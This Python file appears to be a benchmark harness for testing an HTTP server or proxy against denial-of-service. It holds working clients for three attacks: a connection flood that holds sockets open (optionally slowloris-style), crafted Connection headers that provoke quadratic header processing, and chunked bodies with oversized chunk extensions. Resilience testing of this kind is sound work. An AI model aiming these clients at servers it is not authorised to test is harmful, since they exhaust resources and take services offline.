#!/usr/bin/env python3
"""The attacking clients of bench/attacks; each prints one JSON object on stdout.

  flood HOST PORT --connections N --hold S [--partial]
      Opens N TCP connections and holds them S seconds, sending nothing (or, with --partial,
      the first line of a request and no more). Connections the kernel completes are counted
      as opened even when the server has not accepted them (they wait in its listen queue): a
      server out of file descriptors leaves them there. At the end: how many the server closed
      meanwhile.

  headers HOST PORT --kind crafted|plain --size BYTES --rate R --duration S --connections C
      GET / on C keep-alive connections at R requests/s in total, each request header BYTES
      long, 512 fields in all. crafted: ~500 short fields (f1: 1, f2: 1, ...) and Connection
      fields listing one-letter tokens (c,c,c,...: the most tokens the bytes can hold) that
      name none of them, so a proxy that looks every field up among the Connection tokens
      (RFC 9110 7.6.1) without collecting them first compares each field with every token.
      plain: the same bytes with each "Connection" spelled "X-Tokens-1" (same length), an
      ordinary field. The Connection lines are cut at 7,900 bytes, each under nginx's default
      large_client_header_buffers (8k per line). Counts the statuses.

  chunks HOST PORT --ext-size BYTES --chunks K --connections C [--path /echo]
      C connections each POST a chunked body of K one-byte chunks, every chunk header carrying
      a chunk extension BYTES long (";e=aaaa..."), stopping early when the server answers or
      closes; then the last chunk, and the answer is read. Reports each connection's status
      and the bytes it sent before the answer.

Every wait has a deadline; Python 3 standard library only.
"""
import argparse
import json
import resource
import selectors
import socket
import sys
import threading
import time


def raise_fd_limit(need):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < need:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(need, hard), hard))


def flood(a):
    raise_fd_limit(a.connections + 64)
    sel = selectors.DefaultSelector()
    socks, opened, failed = [], 0, 0
    first = f"GET / HTTP/1.1\r\nHost: {a.host}\r\n".encode()
    for _ in range(a.connections):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        err = s.connect_ex((a.host, a.port))
        if err not in (0, 115):  # 115: EINPROGRESS
            failed += 1
            s.close()
            continue
        socks.append(s)
        sel.register(s, selectors.EVENT_WRITE)
    deadline = time.monotonic() + a.connect_timeout
    pending = len(socks)
    while pending and time.monotonic() < deadline:
        for key, _ in sel.select(timeout=0.1):
            s = key.fileobj
            sel.unregister(s)
            pending -= 1
            if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                opened += 1
                if a.partial:
                    try:
                        s.send(first)
                    except OSError:
                        pass
            else:
                failed += 1
    print(json.dumps({"event": "held", "opened": opened, "failed": failed,
                      "not_connected": pending}), file=sys.stderr, flush=True)
    time.sleep(a.hold)
    closed_by_server = 0
    for s in socks:
        try:
            if s.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT) == b"":
                closed_by_server += 1
        except BlockingIOError:
            pass
        except OSError:
            closed_by_server += 1
        s.close()
    print(json.dumps({"opened": opened, "failed": failed + pending,
                      "closed_by_server": closed_by_server}))


def header_request(kind, size, host, max_fields=512):
    """The request head, exactly `size` bytes, ending with the blank line, with max_fields
    header fields in all (handoff's front refuses more than 512)."""
    name = "Connection" if kind == "crafted" else "X-Tokens-1"
    head = f"GET / HTTP/1.1\r\nHost: {host}\r\n"
    for count in range(max_fields - 3, 0, -1):
        fields = "".join(f"f{i}: 1\r\n" for i in range(1, count + 1))
        pad_room = 16  # a last field "z: zzz" brings the head to the exact size
        budget = size - len(head) - len(fields) - 2 - pad_room
        lines = []
        while True:
            room = min(7900, budget) - len(name) - 4  # "NAME: " ... "\r\n"
            if room < 1:
                break
            lines.append(f"{name}: {','.join('c' * ((room + 1) // 2))}\r\n")
            budget -= len(lines[-1])
        if 1 + len(lines) + count + 1 <= max_fields:
            break
    text = head + "".join(lines) + fields
    pad = size - len(text) - 2
    if pad < 5:
        raise SystemExit(f"--size {size}: too small")
    return (text + "z: " + "z" * (pad - 5) + "\r\n\r\n").encode()


class Reader:
    """Reads HTTP/1.1 responses off a blocking socket with a timeout."""

    def __init__(self, sock):
        self.sock, self.buf = sock, b""

    def _more(self):
        data = self.sock.recv(65536)
        if not data:
            raise ConnectionError("closed")
        self.buf += data

    def response(self):
        while b"\r\n\r\n" not in self.buf:
            self._more()
        head, self.buf = self.buf.split(b"\r\n\r\n", 1)
        lines = head.decode("latin-1").split("\r\n")
        status = int(lines[0].split()[1])
        fields = {}
        for ln in lines[1:]:
            k, _, v = ln.partition(":")
            fields[k.strip().lower()] = v.strip()
        if "content-length" in fields:
            n = int(fields["content-length"])
            while len(self.buf) < n:
                self._more()
            self.buf = self.buf[n:]
        elif "chunked" in fields.get("transfer-encoding", "").lower():
            while True:
                while b"\r\n" not in self.buf:
                    self._more()
                line, self.buf = self.buf.split(b"\r\n", 1)
                n = int(line.split(b";")[0], 16)
                while len(self.buf) < n + 2:
                    self._more()
                self.buf = self.buf[n + 2:]
                if n == 0:
                    break
        close = fields.get("connection", "").lower() == "close"
        return status, close


def headers(a):
    request = header_request(a.kind, a.size, f"{a.host}:{a.port}")
    lock = threading.Lock()
    statuses, errors, latencies = {}, {}, []
    start = time.monotonic()

    def worker(index):
        sock = reader = None
        n = 0
        while True:
            due = start + (index + n * a.connections) / a.rate
            if due - start >= a.duration:
                break
            n += 1
            delay = due - time.monotonic()
            if delay > 0:
                time.sleep(delay)
            t0 = time.monotonic()
            try:
                if sock is None:
                    sock = socket.create_connection((a.host, a.port), timeout=a.timeout)
                    reader = Reader(sock)
                sock.sendall(request)
                status, close = reader.response()
                key, table = str(status), statuses
                if close:
                    sock.close()
                    sock = None
            except (OSError, ValueError, IndexError) as e:
                key, table = type(e).__name__, errors
                if sock is not None:
                    sock.close()
                sock = None
            with lock:
                table[key] = table.get(key, 0) + 1
                latencies.append(time.monotonic() - t0)
        if sock is not None:
            sock.close()

    threads = [threading.Thread(target=worker, args=(i,)) for i in range(a.connections)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    latencies.sort()
    p = lambda q: round(latencies[min(len(latencies) - 1, int(q * len(latencies)))] * 1000, 2) \
        if latencies else None
    ok = sum(v for k, v in statuses.items() if k.startswith("2"))
    print(json.dumps({"bytes": len(request), "requests": len(latencies), "ok": ok,
                      "statuses": statuses, "errors": errors, "p50_ms": p(0.5), "p99_ms": p(0.99),
                      "seconds": round(time.monotonic() - start, 3)}))


def chunks(a):
    chunk = b"1;e=" + b"a" * (a.ext_size - 3) + b"\r\nx\r\n"
    results = [None] * a.connections

    def worker(index):
        sent, status = 0, None
        try:
            sock = socket.create_connection((a.host, a.port), timeout=a.timeout)
            sock.sendall(f"POST {a.path} HTTP/1.1\r\nHost: {a.host}:{a.port}\r\n"
                         "Transfer-Encoding: chunked\r\n\r\n".encode())
            reader = Reader(sock)
            answered = False
            for _ in range(a.chunks):
                # An answer (or a close) before the body's end stops the sending.
                sock.setblocking(False)
                try:
                    data = sock.recv(65536)
                    answered = True
                    if data:
                        reader.buf += data
                except BlockingIOError:
                    pass
                sock.settimeout(a.timeout)
                if answered:
                    break
                sock.sendall(chunk)
                sent += len(chunk)
            if not answered:
                sock.sendall(b"0\r\n\r\n")
            status, _ = reader.response()
            result = str(status)
        except (OSError, ValueError, IndexError) as e:
            result = type(e).__name__
            # A server that answers and closes while the body is still coming makes the next
            # send fail (EPIPE, ECONNRESET): its answer may be waiting, unread.
            try:
                sock.settimeout(1)
                result = f"{reader.response()[0]} ({result} on send)"
            except (OSError, ValueError, IndexError, UnboundLocalError):
                result += " (no answer)"
        results[index] = {"status": result, "sent_mb": round(sent / 1e6, 1)}
        try:
            sock.close()
        except (OSError, UnboundLocalError):
            pass

    threads = [threading.Thread(target=worker, args=(i,)) for i in range(a.connections)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    print(json.dumps({"connections": results}))


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    sub = p.add_subparsers(dest="command", required=True)
    f = sub.add_parser("flood")
    f.add_argument("host")
    f.add_argument("port", type=int)
    f.add_argument("--connections", type=int, default=1100)
    f.add_argument("--hold", type=float, default=10)
    f.add_argument("--connect-timeout", type=float, default=5)
    f.add_argument("--partial", action="store_true")
    h = sub.add_parser("headers")
    h.add_argument("host")
    h.add_argument("port", type=int)
    h.add_argument("--kind", choices=["crafted", "plain"], required=True)
    h.add_argument("--size", type=int, default=15000)
    h.add_argument("--rate", type=float, default=20)
    h.add_argument("--duration", type=float, default=5)
    h.add_argument("--connections", type=int, default=2)
    h.add_argument("--timeout", type=float, default=10)
    c = sub.add_parser("chunks")
    c.add_argument("host")
    c.add_argument("port", type=int)
    c.add_argument("--ext-size", type=int, default=100_000)
    c.add_argument("--chunks", type=int, default=1000)
    c.add_argument("--connections", type=int, default=2)
    c.add_argument("--path", default="/echo")
    c.add_argument("--timeout", type=float, default=10)
    a = p.parse_args()
    {"flood": flood, "headers": headers, "chunks": chunks}[a.command](a)


if __name__ == "__main__":
    main()
